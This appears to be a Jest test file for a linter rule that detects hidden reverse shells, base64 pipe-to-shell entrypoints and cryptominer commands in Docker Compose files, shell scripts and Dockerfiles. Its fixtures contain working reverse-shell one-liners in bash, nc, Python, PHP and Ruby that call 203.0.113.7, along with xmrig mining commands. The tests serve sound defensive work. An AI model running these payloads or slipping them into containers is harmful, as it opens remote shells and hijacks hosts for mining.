import { describe, it } from '@jest/globals';
import rule from '../../../src/rules/supply-chain/downloads/command-hidden-code.ts';
import obfuscated from '../../../src/rules/supply-chain/downloads/obfuscated-exec.ts';
import { expectMarks } from '../../support/example.ts';

const service = (options: string) => `services:\n  app:\n    image: ghcr.io/acme/app:1.4\n    ${options}\n`;

const CODES = [
  `python3 -c "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"`,
  `php -r '$s=fsockopen("203.0.113.7",4444);exec("sh <&3 >&3 2>&3");'`,
  `ruby -rsocket -e 'exec("sh",[:in,:out]=>TCPSocket.new("203.0.113.7",4444))'`,
];

describe('command-hidden-code', () => {
  it.each([
    'command: bash -c "«bash -i >& /dev/tcp/203.0.113.7/443 0>&1»"',
    'command: «nc -e /bin/sh 203.0.113.7 4444»',
    `entrypoint: ["sh", "-c", "«echo ZWNobyBoZWxsbwo= | base64 -d | sh»"]`,
    'healthcheck: { test: "«nc -e /bin/sh 203.0.113.7 4444»" }',
    'post_start: [{ command: ["sh", "-c", "«nc -e /bin/sh 203.0.113.7 4444»"] }]',
    'command: «xmrig -o pool.example.com:443»',
    'command: «xmrig -o pool.example.com:443»\n    container_name: adminer',
    'command: sh -c "app & «/tmp/a -o stratum+tcp://pool.example.com:3333»"',
  ])('reports %s', (options) => expectMarks(rule, 'compose.yaml', service(options)));

  it('reports the command of docker run', () =>
    expectMarks(rule, 'x.sh', '#!/bin/sh\ndocker run ghcr.io/acme/app:1.4 «nc -e /bin/sh 203.0.113.7 4444»\n'));

  it.each([
    'command: bash -c "timeout 5 bash -c \'</dev/tcp/db/5432\' && exec app"',
    'command: nc -z db 5432',
    'command: sh -c "echo aGVsbG8K | base64 -d > /greeting && exec app"',
    'command: python3 -c "import socket; socket.create_connection((\'db\', 5432))"',
    'command: ["app", "--socket", "/run/app.sock"]',
    'command: xmrig --version',
  ])('accepts %s', (options) => expectMarks(rule, 'compose.yaml', service(options)));

  it.each([
    [
      'compose.yaml',
      'services:\n  miner:\n    image: ghcr.io/acme/app:1.4\n    command: xmrig -o pool.example.com:443\n',
    ],
    [
      'compose.yaml',
      'services:\n  a:\n    image: ghcr.io/acme/xmrig:6.22\n    command: xmrig -o pool.example.com:443\n',
    ],
    ['mining/compose.yaml', service('command: xmrig -o pool.example.com:443')],
  ])('accepts what mines openly in %s: %j', (path, text) => expectMarks(rule, path, text));

  it.each(CODES)('reports code of another language in a Dockerfile as well: %s', (code) =>
    expectMarks(obfuscated, 'Dockerfile', `FROM debian:12\nCMD «${code}»\n`),
  );

  it.each([
    `python3 -c "import socket; s = socket.socket(); s.connect(('db', 5432))"`,
    `php -r 'fsockopen("db", 5432) or exit(1);'`,
    `awk 'BEGIN { print "a" }'`,
  ])('accepts code that only connects: %s', (code) =>
    expectMarks(obfuscated, 'Dockerfile', `FROM debian:12\nCMD ${code}\n`),
  );
});
